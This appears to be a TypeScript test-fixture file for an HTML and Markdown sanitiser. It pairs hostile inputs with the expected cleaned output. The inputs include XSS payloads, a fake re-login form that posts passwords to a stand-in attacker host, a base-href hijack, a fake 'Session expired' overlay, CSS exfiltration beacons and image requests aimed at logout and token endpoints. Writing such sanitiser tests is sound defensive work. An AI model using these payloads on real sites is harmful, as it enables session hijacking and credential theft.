/** Hostile and malformed HTML as an administrator may save it (T-03): id, input, and the sanitised output. */
export const HTML_CASES: readonly (readonly [id: string, input: string, cleaned: string])[] = [
  ['PH01', '<img src=x onerror=window.__xss=1>', ''],
  ['PH03', '<script>window.__xss=1</script>', ''],
  ['PH05', '<a href="java&#x09;script:window.__xss=1">x</a>', '<a>x</a>'],
  ['PH07', '<iframe src="javascript:parent.__xss=1"></iframe>', ''],
  [
    'PH09',
    '<form action="https://evil.example/steal"><input name=password type=password><button>Log in again</button></form>',
    'Log in again',
  ],
  ['PH11', '<base href="https://evil.example/">', ''],
  [
    'PH13',
    '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Session expired</div>',
    '<div>Session expired</div>',
  ],
  ['PH15', '<details open ontoggle=window.__xss=1>x</details>', 'x'],
  [
    'PH17',
    '<a href="https://evil.example" target=_blank>x</a>',
    '<a href="https://evil.example" rel="noopener noreferrer nofollow" target="_blank">x</a>',
  ],
  [
    'PH19',
    '<object data="data:text/html,<script>parent.__xss=1</script>"></object><embed src="javascript:window.__xss=1">',
    '',
  ],
  ['PH21', '<a href="//evil.example/">x</a><a href="/\\evil.example">y</a>', '<a>x</a><a>y</a>'],
  [
    'PH23',
    '<b>ok</b> <a href="/about">about</a> <img src="/logo.png" alt="logo"> <a href="mailto:a@b.c">m</a>',
    '<b>ok</b> <a href="/about" rel="noopener noreferrer nofollow" target="_blank">about</a> <img src="/logo.png" alt="logo" referrerpolicy="no-referrer" loading="lazy"> <a href="mailto:a@b.c" rel="noopener noreferrer nofollow" target="_blank">m</a>',
  ],
  [
    'PH25',
    '<button popovertarget=p>x</button><div popover id=p onbeforetoggle=window.__xss=1>y</div>',
    'x<div>y</div>',
  ],
  [
    'PH27',
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.__xss=1'/>\">",
    '',
  ],
  ['PH29', '<xmp><img src="</xmp><img src=x onerror=window.__xss=1>">', '"&gt;'],
  ['PH31', '<img src="/api/user/logout">', ''],
  [
    'PH33',
    '<img src="/%61pi/user/token"><img src="/x/../api/user/token"><img src="//own-host.example/api/user/token">',
    '',
  ],
  ['PH35', '<a href="https://user:pw@evil.example/">bank</a>', '<a>bank</a>'],
  [
    'PH37',
    '<svg><style>@import url(https://evil.example/z)</style></svg><img srcset="https://evil.example/s 1x">',
    '',
  ],
  [
    'PH39',
    '<div onpointerenter=window.__xss=1 tabindex=1 autofocus contenteditable onfocus=window.__xss=1>z</div>',
    '<div>z</div>',
  ],
]

/** Markdown cases that can share a page; the other PM cases need a page each. */
export const MARKDOWN_CASES: readonly (readonly [id: string, input: string, cleaned: string])[] = [
  ['PM01', '[x](javascript:window.__xss=1)', '<a>x</a>'],
  ['PM03', '![a](x"onerror="window.__xss=1)', ''],
  ['PM05', '<img src=x onerror=window.__xss=1>', ''],
  ['PM07', '<javascript:window.__xss=1>', '<a>javascript:window.__xss=1</a>'],
  [
    'PM09',
    '```html\n<script>window.__xss=1</script>\n```',
    '<pre><code>&lt;script&gt;window.__xss=1&lt;/script&gt;\n</code></pre>',
  ],
  [
    'PM19',
    '# Title\n\n- a\n- **b**\n\n[site](https://ok.example)',
    '<h2>Title</h2><ul><li>a</li><li><strong>b</strong></li></ul><a href="https://ok.example" rel="noopener noreferrer nofollow" target="_blank">site</a>',
  ],
]

/** Returns the HTML between two rules, without the paragraphs that Markdown wraps around plain lines. */
export const parts = (html: string) =>
  html.split('<hr>').map((part) => part.replaceAll(/<\/?p>|(?<=>)\n|\n$/g, '').trim())
